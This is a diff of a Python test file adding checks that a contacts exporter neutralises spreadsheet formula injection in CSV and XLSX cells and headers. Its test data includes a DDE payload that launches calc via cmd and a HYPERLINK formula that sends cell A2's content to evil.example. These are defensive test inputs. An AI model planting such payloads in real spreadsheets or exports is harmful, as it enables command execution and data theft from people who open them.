@@ -85,7 +85,9 @@ def test_filters_custom_fields_and_audit(tmp_path: Path) -> None:
     assert entry.actor_id == admin.pk
 
 
-@pytest.mark.parametrize("payload", ["=1+1", "+44 1", "-2", "@SUM(A1)", "\tx", "\rx"])
+@pytest.mark.parametrize(
+    "payload", ["=1+1", "+A1", "-2+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "+44 1 x"]
+)
 def test_formula_cells_are_neutralised_in_csv_and_xlsx(tmp_path: Path, payload: str) -> None:
     from openpyxl import load_workbook
 
@@ -99,6 +101,47 @@ def test_formula_cells_are_neutralised_in_csv_and_xlsx(tmp_path: Path, payload: 
     # XML stores a carriage return as a line feed; the leading quote is what matters.
     assert row[header.index("first_name")] == "'" + payload.replace("\r", "\n")
     assert neutralise("plain") == "plain"
+
+
+@pytest.mark.parametrize("phone", ["+44 20 7946 0958", "+1 (555) 010-4477", "-12.5", "+33/1.23"])
+def test_signed_numbers_and_phones_are_kept_as_text_without_an_apostrophe(
+    tmp_path: Path, phone: str
+) -> None:
+    """A sign followed only by digits and separators names no function or cell: it is a
+    value, and an apostrophe would corrupt it (issue 17: `'+4420…` in exported XLSX)."""
+    from openpyxl import load_workbook
+
+    admin = user_with(Scope.ALL)
+    Customer.objects.create(
+        first_name=phone, last_name="X", display_name="x", owner=admin, primary_phone=phone
+    )
+    export_contacts(actor=admin, filters={}, target=tmp_path / "f.csv", file_format="csv")
+    assert read(tmp_path / "f.csv")[0]["phone"] == phone
+    export_contacts(actor=admin, filters={}, target=tmp_path / "f.xlsx", file_format="xlsx")
+    sheet = load_workbook(tmp_path / "f.xlsx").worksheets[0]
+    header = [c.value for c in sheet[1]]
+    for column in ("phone", "first_name"):
+        cell = sheet.cell(row=2, column=header.index(column) + 1)
+        assert (cell.value, cell.data_type) == (phone, "s")  # typed as text, not a formula
+
+
+def test_header_names_are_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
+    """Custom field keys become column names: they go through the same rule as cells."""
+    from openpyxl import load_workbook
+
+    from rapport.core.spreadsheets import csv_writer, write_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A2;"click")'
+    with (tmp_path / "h.csv").open("w", newline="") as out:
+        csv_writer(out).writerow([evil, "+44 20 7946 0958", "ok"])
+    assert next(csv.reader((tmp_path / "h.csv").open())) == [
+        "'" + evil,
+        "+44 20 7946 0958",
+        "ok",
+    ]
+    write_xlsx(tmp_path / "h.xlsx", sheet="x", rows=[[evil]])
+    cell = load_workbook(tmp_path / "h.xlsx").worksheets[0]["A1"]
+    assert (cell.value, cell.data_type) == ("'" + evil, "s")
 
 
 def test_xlsx_export_has_every_row(tmp_path: Path) -> None:
